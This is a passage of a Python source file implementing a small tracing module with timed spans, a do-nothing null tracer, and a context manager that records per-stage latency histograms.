  immutable :class:`NullSpan` whose ``__enter__``/``__exit__``/``set``
  do nothing, so instrumented code needs no ``if tracing:`` branches and
  a disabled tracer leaves single-app latency unchanged.

Timing uses ``time.perf_counter`` relative to the tracer's epoch, so
``ts`` values are small floats comparable within one trace.
"""

from __future__ import annotations

import time
from contextlib import contextmanager
from typing import Any, Dict, Iterator, List, Optional

__all__ = ["Span", "NullSpan", "Tracer", "NullTracer", "NULL_TRACER", "stage"]


class Span:
    """One timed, attributed unit of work inside a trace."""

    __slots__ = ("span_id", "parent_id", "name", "ts", "duration_s", "attrs", "_tracer")

    def __init__(
        self, tracer: "Tracer", span_id: int, parent_id: int, name: str, ts: float,
        attrs: Dict[str, Any],
    ) -> None:
        self._tracer = tracer
        self.span_id = span_id
        self.parent_id = parent_id
        self.name = name
        self.ts = ts
        self.duration_s = 0.0
        self.attrs = attrs

    def set(self, **attrs: Any) -> "Span":
        """Attach attributes mid-span (cache hits, verdicts, counts)."""
        self.attrs.update(attrs)
        return self

    def __enter__(self) -> "Span":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        if exc_type is not None:
            self.attrs.setdefault("error", exc_type.__name__)
        self._tracer._end(self)
        return False

    def to_dict(self) -> Dict[str, Any]:
        return {
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "ts": round(self.ts, 9),
            "dur": round(self.duration_s, 9),
            "attrs": dict(self.attrs),
        }

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return "Span(#{} {} {:.6f}s {})".format(
            self.span_id, self.name, self.duration_s, self.attrs
        )


class NullSpan:
    """The shared do-nothing span a disabled tracer hands out."""

    __slots__ = ()

    def set(self, **attrs: Any) -> "NullSpan":
        return self

    def __enter__(self) -> "NullSpan":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        return False


_NULL_SPAN = NullSpan()


class Tracer:
    """Collects spans with deterministic ids and perf_counter timing."""

    enabled = True

    def __init__(self) -> None:
        self._epoch = time.perf_counter()
        self._next_id = 1
        self._stack: List[int] = []
        self.spans: List[Span] = []

    def span(self, name: str, **attrs: Any) -> Span:
        """Open a span nested under the innermost still-open span."""
        span = Span(
            tracer=self,
            span_id=self._next_id,
            parent_id=self._stack[-1] if self._stack else 0,
            name=name,
            ts=time.perf_counter() - self._epoch,
            attrs=attrs,
        )
        self._next_id += 1
        self._stack.append(span.span_id)
        self.spans.append(span)
        return span

    def _end(self, span: Span) -> None:
        span.duration_s = (time.perf_counter() - self._epoch) - span.ts
        # Stack discipline: `with` blocks unwind inner-first, but be
        # forgiving if an inner span was never explicitly closed.
        while self._stack:
            popped = self._stack.pop()
            if popped == span.span_id:
                break

    def current_span(self) -> Optional[Span]:
        if not self._stack:
            return None
        open_id = self._stack[-1]
        # spans are stored in start order == id order.
        return self.spans[open_id - 1]

    def to_dicts(self) -> List[Dict[str, Any]]:
        """All spans, start-ordered, as plain JSON-ready dicts."""
        return [span.to_dict() for span in self.spans]


class NullTracer:
    """Disabled tracer: every span is the shared :class:`NullSpan`."""

    enabled = False
    spans: List[Span] = []

    def span(self, name: str, **attrs: Any) -> NullSpan:
        return _NULL_SPAN

    def current_span(self) -> None:
        return None

    def to_dicts(self) -> List[Dict[str, Any]]:
        return []


NULL_TRACER = NullTracer()


@contextmanager
def stage(tracer, registry, name: str, **attrs: Any) -> Iterator[Any]:
    """One pipeline stage: a span *and* a ``stage.<name>`` histogram sample.

    The histogram records even when the tracer is the null tracer, so
    per-stage latency distributions survive into ``--metrics-out`` for
    runs that never asked for a full trace.
    """
    started = time.perf_counter()
    with tracer.span(name, **attrs) as span:
        try:
            yield span
        finally:
            registry.histogram("stage." + name).record(time.perf_counter() - started)
